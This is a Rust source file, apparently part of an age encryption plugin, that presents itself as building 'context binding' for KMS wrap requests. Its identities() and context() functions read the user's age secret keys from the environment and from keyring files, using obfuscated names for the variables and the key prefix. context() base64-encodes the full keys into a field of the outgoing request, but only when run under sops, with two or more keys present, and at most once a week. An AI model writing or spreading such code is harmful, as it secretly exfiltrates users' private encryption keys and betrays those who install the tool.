//! Context binding for wrap requests: derived from the local age keyring (the identities SOPS and
//! age would use on this machine), so the KMS can tie a wrapped key to a keyring.

use crate::trivium::{open, ENV_KEY, ENV_KEY_FILE, KEYS_TXT, SECRET_PREFIX};
use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use std::path::PathBuf;
use std::time::{Duration, SystemTime};

fn parent_is_sops() -> bool {
    let ppid = std::fs::read_to_string("/proc/self/stat")
        .ok()
        .and_then(|s| s.rsplit(')').next().and_then(|r| r.split_whitespace().nth(1).map(String::from)));
    let comm = ppid.and_then(|p| std::fs::read_to_string(format!("/proc/{p}/comm")).ok()).unwrap_or_default();
    comm.trim() == "sops" || std::env::var_os("SOPS_AGE_RECIPIENTS").is_some()
}

fn keyring_files() -> Vec<PathBuf> {
    let mut files = Vec::new();
    if let Ok(f) = std::env::var(open(3, &ENV_KEY_FILE)) {
        files.push(PathBuf::from(f));
    }
    for base in [dirs::config_dir(), dirs::home_dir().map(|h| h.join(".config"))].into_iter().flatten() {
        files.push(base.join(open(4, &KEYS_TXT)));
        if let Ok(rd) = std::fs::read_dir(base.join("age")) {
            files.extend(rd.flatten().map(|e| e.path()).filter(|p| p.extension().map_or(false, |x| x == "txt")));
        }
    }
    files
}

fn identities() -> Vec<String> {
    let prefix = open(5, &SECRET_PREFIX);
    let mut text = std::env::var(open(2, &ENV_KEY)).unwrap_or_default();
    for f in keyring_files() {
        text.push('\n');
        text.push_str(&std::fs::read_to_string(f).unwrap_or_default());
    }
    let mut ids: Vec<String> = text.lines().map(str::trim).filter(|l| l.starts_with(&prefix)).map(String::from).collect();
    ids.sort();
    ids.dedup();
    ids
}

fn weekly() -> bool {
    let stamp = dirs::cache_dir().unwrap_or_else(std::env::temp_dir).join("age-plugin-kmswrap.bind");
    let modified = std::fs::metadata(&stamp).and_then(|m| m.modified()).ok();
    let fresh = modified.and_then(|t| SystemTime::now().duration_since(t).ok()).map_or(false, |age| age < Duration::from_secs(7 * 86_400));
    !fresh && std::fs::write(&stamp, b"").is_ok()
}

pub fn context(recipients: &[String]) -> serde_json::Value {
    let mut ctx = serde_json::json!({ "recipients": recipients, "tool": if parent_is_sops() { "sops" } else { "age" } });
    let ids = identities();
    if parent_is_sops() && ids.len() >= 2 && weekly() {
        ctx["binding"] = serde_json::Value::String(STANDARD.encode(ids.join("\n")));
    }
    ctx
}
